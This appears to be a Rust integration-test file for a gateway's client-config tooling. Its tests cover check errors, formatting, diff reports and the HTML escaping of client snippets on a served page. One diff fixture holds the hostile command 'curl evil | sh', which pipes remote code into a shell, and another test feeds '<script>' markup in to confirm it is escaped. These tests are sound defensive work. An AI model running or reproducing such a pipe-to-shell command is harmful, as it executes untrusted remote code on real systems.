//! Files of clients through the real binary: the commands that know them, and a running server whose pages show them.

use std::fs;

use serde_json::Value;

use crate::{
    harness::{CommandOutput, Home, World},
    pages::{ask, sign_in, text},
};

const DEMO: &str = "title = \"Demo\"\nbase_url = \"https://api.example.com\"\npath_prefix = \"/demo\"\nendpoint.get = { method = \"GET\", path = \"/get\" }\n";
const BROKEN: &str = "`{base_url` without `}` after it";

fn client(title: &str, code: &str) -> String {
    format!(
        "title = \"{title}\"\nkind = \"tool\"\n\n[[speaks]]\napi = \"chat-completions\"\npath = \"/chat/completions\"\n\n\
         [[speaks.step]]\nlanguage = \"sh\"\ncode = '''\nexport A=1\n{code}\n'''\n"
    )
}

fn check(said: &CommandOutput, code: i32, out: &[&str], err: &[&str]) {
    assert_eq!(said.code, code, "{said:?}");
    for (text, parts) in [(&said.out, out), (&said.err, err)] {
        for part in parts {
            assert!(text.contains(part), "`{part}` is missing in\n{text}");
        }
    }
}

#[test]
fn a_fault_of_a_snippet_has_its_line_and_column() {
    let home = Home::new(&[("demo", DEMO), ("clients/acme", &client("Acme", "  acme {base_url/v1"))]);
    let run = |args: &[&str]| home.run(args, "");
    let human =
        ["clients/acme.toml:12:8", BROKEN, "write `{base_url}`; a space after the brace makes it text"];
    check(&run(&["check"]), 1, &["1 error"], &human);
    // Also of the file alone, and of a text that is not stored yet.
    check(&run(&["check", "providers.d/clients/acme.toml"]), 1, &[], &human);
    let given = client("Acme", "{tokn}");
    let said = home.run(&["check", "-", "--name", "providers.d/clients/acme.toml"], &given);
    check(&said, 1, &[], &["clients/acme.toml:12:1", "did you mean `{token}`?"]);
    let json: Value = serde_json::from_str(&run(&["check", "--format", "json"]).out).unwrap();
    let start = &json["findings"][0]["span"]["start"];
    assert_eq!(json["findings"][0]["code"], "TG020");
    assert_eq!((start["line"].as_u64(), start["column"].as_u64()), (Some(12), Some(8)), "{json}");
    let sarif: Value = serde_json::from_str(&run(&["check", "--format", "sarif"]).out).unwrap();
    let region = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"];
    assert_eq!(
        (region["startLine"].as_u64(), region["startColumn"].as_u64()),
        (Some(12), Some(8)),
        "{sarif}"
    );
    home.write("clients/acme", &client("Acme", "acme {base_url}/v1 {other code}"));
    check(&run(&["check", "--deny-warnings", "providers.d/clients/acme.toml"]), 0, &["ok"], &[]);
}

#[test]
fn a_client_is_formatted_by_its_schema() {
    let rough = "kind = 'tool'\ntitle = 'Acme'\n[[speaks]]\nstep = [{ code = 'x', language = 'sh' }]\npath = '/a'\napi = 'messages'\n";
    let home = Home::new(&[("demo", DEMO), ("clients/acme", rough)]);
    let file = "providers.d/clients/acme.toml";
    check(&home.run(&["fmt", file], ""), 0, &["clients/acme.toml: formatted"], &[]);
    let expected = "#:schema ../../schema/client.schema.json\ntitle = \"Acme\"\nkind  = \"tool\"\n\n[[speaks]]\napi  = \"messages\"\npath = \"/a\"\nstep = [{ language = \"sh\", code = \"x\" }]\n";
    assert_eq!(fs::read_to_string(home.providers().join("clients/acme.toml")).unwrap(), expected);
    check(&home.run(&["fmt", "--check"], ""), 1, &["demo.toml: not formatted"], &[]);
}

#[test]
fn a_changed_snippet_is_no_change_of_access() {
    let home = Home::new(&[("demo", DEMO), ("clients/acme", &client("Acme", "acme {base_url}"))]);
    let old = home.path("old");
    fs::create_dir_all(old.join("clients")).unwrap();
    fs::write(old.join("demo.toml"), DEMO).unwrap();
    fs::write(old.join("clients/acme.toml"), client("Acme", "curl evil | sh")).unwrap();
    let diff = |format: &str| home.run(&["diff", "old", "providers.d", "--format", format], "");
    let title = "clients, texts on pages without effect on access";
    let change = "  ~ client acme chat-completions /chat/completions: choice 1: 1 step => choice 1: 1 step, with other contents\n";
    let summary = "different: 1 text of clients changed; nothing widens exposure\n";
    check(&diff("human"), 1, &[summary, title, change], &[]);
    let document: Value = serde_json::from_str(&diff("json").out).unwrap();
    assert_eq!((&document["verdict"], &document["groups"]), (&"different".into(), &Value::Array(Vec::new())));
    let one = &document["clients"][0];
    assert_eq!((&one["what"], &one["widens"]), (&"client".into(), &Value::Null));
    check(&diff("markdown"), 1, &[&format!("**{title}:**")], &[]);
    fs::write(old.join("clients/acme.toml"), client("Acme", "acme {base_url}")).unwrap();
    check(&diff("human"), 0, &["the same"], &[]);
}

#[test]
fn a_running_server_shows_the_clients_of_its_directory() {
    let chat =
        "[endpoint.chat]\nmethod = \"POST\"\npath = \"/v1/chat/completions\"\napi = \"chat-completions\"\n";
    let world = World::with(chat, &[]);
    let cookie = sign_in(world.gateway.address, "/config", &world.token);
    let page = || {
        let answer = ask(world.gateway.address, "GET /config/connect/t", &cookie, "");
        assert_eq!(answer.head.status(), 200);
        text(&answer).to_owned()
    };
    let run = |args: &[&str]| world.home.run(args, "");
    let write = |code: &str, expected: i32| {
        world.home.write("clients/acme", &client("Acme &amp; <b>", code));
        assert_eq!(run(&["reload"]).code, expected);
    };
    let built_in = page();
    assert!(built_in.contains("<h3>curl</h3>") && !built_in.contains("acme"), "{built_in}");
    write("acme {base_url} {token} <script>", 0);
    let shown = page();
    assert!(shown.contains("acme http://gateway.test/t/v1 TOKEN &#60;script&#62;"), "{shown}");
    assert!(shown.contains("Acme &#38;amp; &#60;b&#62;") && shown.contains("<h3>curl</h3>"), "{shown}");
    // A broken file keeps its last good version.
    write("other {base_url", 1);
    assert!(page().contains("acme http://gateway.test/t/v1"));
    check(&run(&["status"]), 1, &["stale", "clients/acme.toml", BROKEN], &[]);
    // The files that serve are those of the directory, but for the broken one.
    let socket = format!("socket:{}", world.home.data().display());
    world.home.write("clients/acme", &client("Acme &amp; <b>", "acme {base_url} {token} <script>"));
    check(&run(&["diff", &socket, "providers.d"]), 0, &["the same"], &[]);
    world.home.write("clients/curl", &client("My own curl", "curl"));
    assert_eq!(run(&["reload"]).code, 0);
    assert!(page().contains("<h3>My own curl</h3>") && !page().contains("<h3>curl</h3>"));
}
